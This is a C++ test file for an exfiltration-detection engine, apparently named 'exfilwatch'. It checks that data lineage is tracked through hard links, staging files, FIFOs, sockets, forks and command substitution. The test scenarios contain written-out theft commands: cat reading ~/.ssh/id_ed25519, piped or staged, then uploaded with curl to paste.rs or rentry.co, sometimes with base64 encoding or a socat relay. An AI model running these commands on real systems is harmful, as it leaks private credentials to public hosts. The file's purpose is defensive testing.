@@ -1,0 +1,451 @@
+// Tests detect/lineage.cpp, the data-flow model: each channel data can take (files by identity,
+// staging chains, pipes, FIFOs, UNIX and loopback sockets, fork, command substitution), what must
+// not join (siblings, background jobs, untainted writers of system files), no deadline, bytes
+// carried, classifications redone on a rules reload, eviction reported, bounded work.
+#include <doctest/doctest.h>
+
+#include "timeline.hpp"
+
+using namespace exfilwatch;
+using namespace exfilwatch::detect;
+using namespace exfilwatch::detect::test;
+
+namespace {
+
+const std::string key = home + "/.ssh/id_ed25519";
+constexpr TimeNs hour_ms = 3'600'000;
+
+ProcessRef curl_post(Timeline& tl, const ProcessRef& parent, std::uint64_t stdin_pipe = 0)
+{
+    return tl.spawn(parent, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"}, {}, 0, stdin_pipe, 0,
+                    StdoutKind::other);
+}
+
+bool silent(const Timeline& tl)
+{
+    return tl.alerts.empty();
+}
+
+}  // namespace
+
+TEST_CASE("a hard link at a harmless name is the same sensitive file (device, inode)")
+{
+    Timeline tl;
+    constexpr std::uint64_t ino = 424242;
+    auto ls = tl.spawn(tl.shell, {"ssh-add", "-l"});
+    tl.read(ls, key, 411, ino);  // its own use: but the inode is now known
+    tl.exit(ls);
+    auto cat = tl.spawn(tl.shell, {"cat", "/tmp/notes.txt"}, {}, 0, 0, 7001);
+    tl.read(cat, "/tmp/notes.txt", 411, ino);
+    tl.exit(cat);
+    auto curl = curl_post(tl, tl.shell, 7001);
+    tl.transfer(curl, "paste.rs", 1300 + 411, 400);
+    REQUIRE_FALSE(silent(tl));
+    CHECK(tl.alerts[0].files[0].sensitive_class == "ssh-key");
+}
+
+TEST_CASE("a seeded sensitive inode classifies its first read at another name")
+{
+    Timeline tl;
+    tl.engine.seed_sensitive(key, 2049, 5151);
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-T", "/tmp/x", "https://paste.rs/"});
+    tl.read(curl, "/tmp/x", 411, 5151);
+    tl.transfer(curl, "paste.rs", 1300 + 411, 400);
+    REQUIRE_FALSE(silent(tl));
+    CHECK(tl.alerts[0].files[0].sensitive_class == "ssh-key");
+}
+
+TEST_CASE("a staging chain of four hops through /dev/shm and /tmp, uploaded two hours later")
+{
+    Timeline tl;
+    auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 0, StdoutKind::file);
+    tl.open_write(cat, "/dev/shm/.a", 801);
+    tl.read(cat, key, 2600);
+    tl.exit(cat);
+    const char* paths[] = {"/dev/shm/.a", "/tmp/.b", "/var/tmp/.c", "/dev/shm/.d"};
+    for (int i = 0; i < 3; ++i) {
+        auto cp = tl.spawn(tl.shell, {"cp", paths[i], paths[i + 1]}, {}, 0, 0, 0, StdoutKind::other);
+        tl.read(cp, paths[i], 2600, 801 + i);
+        tl.open_write(cp, paths[i + 1], 802 + i);
+        tl.exit(cp);
+        tl.step(hour_ms / 2);
+    }
+    tl.step(hour_ms);
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-T", paths[3], "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
+    tl.read(curl, paths[3], 2600, 804);
+    tl.transfer(curl, "paste.rs", 1300 + 2600, 400);
+    REQUIRE_FALSE(silent(tl));
+    const auto& a = tl.alerts[0];
+    CHECK(a.subtechnique_id == "T1567.003");
+    CHECK(a.reason.find("cat read ~/.ssh/id_ed25519") != std::string::npos);
+    bool last_hop = false;
+    for (const auto& f : a.files) last_hop |= f.path == "/dev/shm/.d" && f.sensitive_class.empty();
+    CHECK(last_hop);
+}
+
+TEST_CASE("a file rewritten with O_TRUNC by an untainted writer no longer holds the data")
+{
+    Timeline tl;
+    auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 0, StdoutKind::file);
+    tl.open_write(cat, "/tmp/stage", 901);
+    tl.read(cat, key, 2600);
+    tl.exit(cat);
+    auto gen = tl.spawn(tl.shell, {"head", "-c", "4000", "/dev/urandom"}, {}, 0, 0, 0, StdoutKind::file);
+    tl.open_write(gen, "/tmp/stage", 901);
+    tl.exit(gen);
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-T", "/tmp/stage", "https://paste.rs/"});
+    tl.read(curl, "/tmp/stage", 4000, 901);
+    tl.transfer(curl, "paste.rs", 1300 + 4000, 400);
+    CHECK(silent(tl));
+}
+
+TEST_CASE("a provisioner rewriting /etc/hosts links nothing: an unrelated upload stays silent")
+{
+    Timeline tl;
+    auto ssh = tl.spawn(tl.shell, {"ssh", "-i", key, "host", "true"});  // own use of the key
+    tl.read(ssh, key, 411);
+    tl.exit(ssh);
+    auto prov = tl.start_session({"ansible-playbook", "site.yml"});
+    tl.open_write(prov, "/etc/hosts", 77);
+    tl.exit(prov);
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-T", "/tmp/report.txt", "https://paste.rs/"});
+    tl.read(curl, "/etc/hosts", 300, 77);
+    tl.read(curl, "/tmp/report.txt", 5000, 78);
+    tl.transfer(curl, "paste.rs", 1300 + 5000, 400);
+    CHECK(silent(tl));
+}
+
+TEST_CASE("a FIFO across setsid joins a writer and a reader that never met")
+{
+    Timeline tl;
+    auto writer = tl.start_session({"cat", key});
+    tl.read(writer, key, 2600);
+    tl.object_io(writer, ObjectKind::fifo, 3131, IoDirection::write, 2600);
+    tl.exit(writer);
+    auto reader = tl.start_session({"curl", "-sk", "--data-binary", "@/tmp/ff", "https://paste.rs/"});
+    tl.object_io(reader, ObjectKind::fifo, 3131, IoDirection::read, 2600);
+    tl.transfer(reader, "paste.rs", 1300 + 2600, 400);
+    REQUIRE_FALSE(silent(tl));
+    CHECK(tl.alerts[0].reason.find("cat read ~/.ssh/id_ed25519") != std::string::npos);
+
+    // The reader of another FIFO stays silent.
+    Timeline other;
+    auto w2 = other.start_session({"cat", key});
+    other.read(w2, key, 2600);
+    other.object_io(w2, ObjectKind::fifo, 3131, IoDirection::write, 2600);
+    auto r2 = other.start_session({"curl", "-sk", "--data-binary", "@/tmp/gg", "https://paste.rs/"});
+    other.object_io(r2, ObjectKind::fifo, 3232, IoDirection::read, 2600);
+    other.transfer(r2, "paste.rs", 1300 + 2600, 400);
+    CHECK(silent(other));
+}
+
+TEST_CASE("UNIX stream, datagram and socketpair channels carry taint, also when the read came first")
+{
+    for (auto order : {0, 1}) {
+        Timeline tl;
+        auto server = tl.start_session({"python3", "srv.py"});
+        auto client = tl.start_session({"python3", "cli.py"});
+        if (order == 0) {
+            tl.read(client, key, 2600);
+            tl.object_io(client, ObjectKind::unix_socket, 6060, IoDirection::write, 2600);
+            tl.object_io(server, ObjectKind::unix_socket, 6060, IoDirection::read, 2600);
+        } else {
+            // The reader's record arrives before the writer read the key (another CPU).
+            tl.object_io(server, ObjectKind::unix_socket, 6060, IoDirection::read, 2600);
+            tl.object_io(client, ObjectKind::unix_socket, 6060, IoDirection::write, 2600);
+            tl.read(client, key, 2600);
+        }
+        tl.transfer(server, "paste.rs", 1300 + 2600, 400);
+        REQUIRE_FALSE(silent(tl));
+        CHECK(tl.alerts[0].files[0].sensitive_class == "ssh-key");
+    }
+}
+
+TEST_CASE("a loopback TCP relay and its next hop: any number of processes")
+{
+    Timeline tl;
+    auto reader = tl.start_session({"python3", "a.py"});
+    tl.read(reader, key, 2600);
+    tl.object_io(reader, ObjectKind::loopback_socket, 0xabc, IoDirection::write, 2600);
+    auto relay = tl.start_session({"socat", "tcp-l:9999", "-"});
+    tl.object_io(relay, ObjectKind::loopback_socket, 0xabc, IoDirection::read, 2600);
+    tl.object_io(relay, ObjectKind::unix_socket, 0xdef, IoDirection::write, 2600);
+    auto up = tl.start_session({"python3", "b.py"});
+    tl.object_io(up, ObjectKind::unix_socket, 0xdef, IoDirection::read, 2600);
+    tl.transfer(up, "paste.rs", 1300 + 2600, 400);
+    REQUIRE_FALSE(silent(tl));
+}
+
+TEST_CASE("bytes: a channel carries at most what moved through it")
+{
+    auto rules = builtin();
+    Lineage l(rules);
+    ProcessRef reader, up;
+    reader.entity_id = "r";
+    reader.name = "python3";
+    reader.args = {"python3", "a.py"};
+    up = reader;
+    up.entity_id = "u";
+    l.on_exec(reader, 10);
+    l.on_exec(up, 11);
+    l.on_read(reader, 12, key, 2049, 5, 2600);
+    ObjectIoEvent w{13, reader, ObjectKind::unix_socket, 77, 0, IoDirection::write, 4, 40};
+    ObjectIoEvent r{14, up, ObjectKind::unix_socket, 77, 0, IoDirection::read, 4, 40};
+    l.on_object_io(w);
+    l.on_object_io(r);
+    auto v = l.view("u", 15);
+    REQUIRE(v.sources.size() == 1);
+    CHECK(v.sources[0].bytes == 40);
+    auto direct = l.view("r", 15);
+    REQUIRE(direct.sources.size() == 1);
+    CHECK(direct.sources[0].bytes == 2600);
+    CHECK(direct.sources[0].origin == v.sources[0].origin);  // one lineage: trickles add up per origin
+    // More moved later: the cap follows the cumulative count, never past what was read.
+    w.bytes = r.bytes = 9000;
+    l.on_object_io(w);
+    l.on_object_io(r);
+    CHECK(l.view("u", 16).sources[0].bytes == 2600);
+}
+
+TEST_CASE("fork: a child forked after its parent read is tainted, one forked before is not")
+{
+    Timeline tl;
+    auto py = tl.spawn(tl.shell, {"python3", "agent.py"}, "/usr/bin/python3.11");
+    auto before = tl.spawn(py, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
+    tl.read(py, key, 2600);
+    tl.transfer(before, "paste.rs", 1300 + 2600, 400);
+    CHECK(silent(tl));
+    tl.step(hour_ms);
+    auto after = tl.spawn(py, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"});
+    tl.transfer(after, "paste.rs", 1300 + 2600, 400);
+    REQUIRE_FALSE(silent(tl));
+    CHECK(tl.alerts[0].process.entity_id == after.entity_id);
+}
+
+TEST_CASE("a parent learns from a child only through an object; siblings and background jobs do not join")
+{
+    // cat key > /dev/null &  then curl -T report: no object between them.
+    Timeline tl;
+    auto bg = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 0, StdoutKind::other);
+    tl.open_read(bg, key);
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-T", "/tmp/r", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
+    tl.summary(bg, key, 2600);
+    tl.read(curl, "/tmp/r", 4000, 12);
+    tl.transfer(curl, "paste.rs", 1300 + 4000, 400);
+    tl.exit(bg);
+    CHECK(silent(tl));
+    // The twin: the background job's output reaches curl through a pipe.
+    Timeline twin;
+    auto bg2 = twin.spawn(twin.shell, {"cat", key}, {}, 0, 0, 8080);
+    auto curl2 = twin.spawn(twin.shell, {"curl", "-sk", "--data-binary", "@-", "https://paste.rs/"}, {}, 0, 8080, 0,
+                            StdoutKind::other);
+    twin.read(bg2, key, 2600);
+    twin.transfer(curl2, "paste.rs", 1300 + 2600, 400);
+    CHECK_FALSE(silent(twin));
+}
+
+TEST_CASE("command substitution at depth 3 through forked subshells: curl -d \"$( ( (cat f | base64) ) )\"")
+{
+    Timeline tl;
+    auto s1 = tl.fork(tl.shell);
+    auto s2 = tl.fork(s1);
+    auto s3 = tl.fork(s2);
+    auto cat = tl.spawn(s3, {"cat", key}, {}, 0, 0, 4001);
+    auto b64 = tl.spawn(s3, {"base64", "-w0"}, {}, 0, 4001, 4002);
+    tl.read(cat, key, 411);
+    tl.exit(cat);
+    tl.exit(b64);
+    tl.exit(s3);
+    tl.exit(s2);
+    tl.exit(s1);
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-d", "[BODY]", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
+    tl.transfer(curl, "paste.rs", 1300 + 600, 400);
+    REQUIRE_FALSE(silent(tl));
+    CHECK(tl.alerts[0].subtechnique_id == "T1567.003");
+
+    // With channel telemetry the same is exact: the shell's read of the pipe is seen.
+    Timeline exact;
+    auto c = exact.spawn(exact.shell, {"cat", key}, {}, 0, 0, 4101);
+    exact.read(c, key, 411);
+    exact.object_io(c, ObjectKind::pipe, 4101, IoDirection::write, 411);
+    exact.object_io(exact.shell, ObjectKind::pipe, 4101, IoDirection::read, 411);
+    exact.exit(c);
+    auto up = exact.spawn(exact.shell, {"curl", "-sk", "-d", "[BODY]", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
+    exact.transfer(up, "paste.rs", 1300 + 600, 400);
+    CHECK_FALSE(silent(exact));
+}
+
+TEST_CASE("defect 16.1: after a rules reload, no file class of the old rules survives")
+{
+    auto without_ssh = [] {
+        auto r = builtin();
+        std::erase_if(r.sensitive, [](const SensitiveClass& c) { return c.name == "ssh-key"; });
+        return r;
+    };
+    auto scenario = [&](Timeline& tl, bool reload) {
+        auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 9901);
+        tl.read(cat, key, 2600);
+        tl.exit(cat);
+        if (reload) tl.engine.replace_rules(without_ssh());
+        auto curl = curl_post(tl, tl.shell, 9901);
+        tl.transfer(curl, "rentry.co", 1300 + 2600, 400);
+    };
+    Timeline fresh(without_ssh());
+    scenario(fresh, false);
+    CHECK(silent(fresh));
+    Timeline reloaded;
+    scenario(reloaded, true);
+    CHECK(silent(reloaded));  // failed before: the old ssh-key class still scored 93
+    Timeline kept;
+    scenario(kept, false);
+    CHECK_FALSE(silent(kept));
+}
+
+TEST_CASE("evicting tainted state is counted and reported as a blind spot")
+{
+    auto r = builtin();
+    r.settings.max_processes = 16;
+    r.settings.max_staging_files = 16;
+    Timeline tl(std::move(r));
+    for (int i = 0; i < 64; ++i) {
+        auto p = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 0, StdoutKind::file);
+        tl.open_write(p, "/tmp/s" + std::to_string(i), 20000 + i);
+        tl.read(p, key, 2600);
+    }
+    tl.step(2000);
+    tl.feed(DnsAnswerEvent{tl.t, tl.shell, {}, "x", {}, {}});  // lets the engine run its expiry
+    auto spots = tl.engine.take_blind_spots();
+    REQUIRE_FALSE(spots.empty());
+    std::uint64_t lost = 0;
+    for (const auto& b : spots) {
+        CHECK(b.cause == "taint_evicted");
+        CHECK_FALSE(b.processes.empty());
+        CHECK(b.processes.size() <= 8);
+        lost += b.lost;
+    }
+    CHECK(lost > 0);
+    CHECK(tl.engine.lineage().stats().evicted_taint == lost);
+    CHECK(tl.engine.lineage().stats().processes <= 16);
+    CHECK(tl.engine.lineage().stats().staged_files <= 16);
+    CHECK(tl.engine.take_blind_spots().empty());  // taken once
+}
+
+TEST_CASE("untainted churn evicts without a blind spot")
+{
+    auto r = builtin();
+    r.settings.max_processes = 16;
+    Timeline tl(std::move(r));
+    for (int i = 0; i < 64; ++i) tl.spawn(tl.shell, {"true"});
+    tl.step(2000);
+    tl.feed(DnsAnswerEvent{tl.t, tl.shell, {}, "x", {}, {}});
+    CHECK(tl.engine.take_blind_spots().empty());
+    CHECK(tl.engine.lineage().stats().evicted_processes > 0);
+}
+
+TEST_CASE("bounded cost: the work of one pipeline does not grow with the tables")
+{
+    auto measure = [](int background) {
+        auto rules = builtin();
+        Lineage l(rules);
+        TimeNs t = 1'000'000'000;
+        auto ref = [&](std::uint32_t pid, std::string name, std::uint64_t in, std::uint64_t out) {
+            ProcessRef p;
+            p.pid = pid;
+            p.entity_id = "e" + std::to_string(pid);
+            p.parent_entity_id = "shell";
+            p.name = name;
+            p.args = {name};
+            p.stdin_pipe = in;
+            p.stdout_pipe = out;
+            p.stdout_kind = out ? StdoutKind::pipe : StdoutKind::other;
+            p.start_time = t;
+            return p;
+        };
+        ProcessRef shell;
+        shell.entity_id = "shell";
+        shell.name = "bash";
+        shell.args = {"bash"};
+        l.on_exec(shell, t);
+        // Tainted background: many holders, many tainted files and pipes.
+        for (int i = 0; i < background; ++i) {
+            auto p = ref(100000 + i, "cat", 0, 500000 + i);
+            l.on_exec(p, ++t);
+            l.on_write(p, ++t, "/tmp/f" + std::to_string(i), 2049, 700000 + i, true);
+            l.on_read(p, ++t, key, 2049, 1, 2600);
+        }
+        auto before = l.stats().work;
+        auto cat = ref(1, "cat", 0, 42);
+        auto b64 = ref(2, "base64", 42, 43);
+        auto up = ref(3, "curl", 43, 0);
+        l.on_exec(cat, ++t);
+        l.on_exec(b64, ++t);
+        l.on_exec(up, ++t);
+        l.on_read(cat, ++t, key, 2049, 1, 2600);
+        auto v = l.view("e3", t);
+        CHECK(v.sources.size() == 1);
+        return l.stats().work - before;
+    };
+    auto small = measure(100);
+    auto large = measure(10000);
+    CHECK(small > 0);
+    CHECK(large == small);
+}
+
+TEST_CASE("a parent writes the stdin pipe of a child it spawned: tar czf runs gzip > archive")
+{
+    Timeline tl;
+    auto tar = tl.spawn(tl.shell, {"tar", "czf", "/tmp/d.tgz", "Documents"}, {}, 0, 0, 0, StdoutKind::other);
+    auto sh = tl.fork(tar);
+    tl.open_write(sh, "/tmp/d.tgz", 5501);
+    ProcessRef gz = sh;
+    gz.executable = "/usr/bin/gzip";
+    gz.name = "gzip";
+    gz.args = {"gzip"};
+    gz.stdin_pipe = 6601;
+    gz.stdout_kind = StdoutKind::file;
+    tl.feed(ExecEvent{tl.t, gz});
+    tl.step();
+    tl.read(tar, key, 2600);
+    tl.exit(gz);
+    tl.exit(tar);
+    auto curl = tl.spawn(tl.shell, {"curl", "-sk", "-T", "/tmp/d.tgz", "https://paste.rs/"}, {}, 0, 0, 0, StdoutKind::other);
+    tl.read(curl, "/tmp/d.tgz", 2000, 5501);
+    tl.transfer(curl, "paste.rs", 1300 + 2000, 400);
+    REQUIRE_FALSE(silent(tl));
+    CHECK(tl.alerts[0].reason.find("staged in /tmp/d.tgz") != std::string::npos);
+}
+
+TEST_CASE("no deadline on a pipe: cat key | (sleep 3600; curl -d @-) alerts after its writer is long gone")
+{
+    Timeline tl;
+    auto cat = tl.spawn(tl.shell, {"cat", key}, {}, 0, 0, 7301);
+    auto sub = tl.fork(tl.shell);  // holds the read end; no exec record says so
+    tl.read(cat, key, 2600);
+    tl.exit(cat);
+    for (int i = 0; i < 60; ++i) {  // an hour of other activity: expiry runs, exited processes go
+        tl.step(60'000);
+        tl.feed(DnsAnswerEvent{tl.t, tl.shell, {}, "x", {}, {}});
+    }
+    CHECK(tl.engine.lineage().find(cat.entity_id) == nullptr);
+    auto curl = curl_post(tl, sub, 7301);
+    tl.transfer(curl, "paste.rs", 1300 + 2600, 400);
+    REQUIRE_FALSE(silent(tl));
+    CHECK(tl.alerts[0].reason.find("cat read ~/.ssh/id_ed25519") != std::string::npos);
+}
+
+TEST_CASE("caps hold when many objects appear at the same instant")
+{
+    auto rules = builtin();
+    rules.settings.max_staging_files = 16;
+    Lineage l(rules);
+    ProcessRef p;
+    p.entity_id = "w";
+    p.name = "cat";
+    p.args = {"cat"};
+    l.on_exec(p, 5);
+    l.on_read(p, 5, key, 2049, 1, 2600);
+    for (std::uint64_t i = 0; i < 200; ++i) l.on_write(p, 5, "/tmp/f" + std::to_string(i), 2049, 100 + i, true);
+    CHECK(l.stats().staged_files <= 16);
+    CHECK(l.stats().evicted_taint > 0);
+    CHECK_FALSE(l.take_blind_spots().empty());
+}
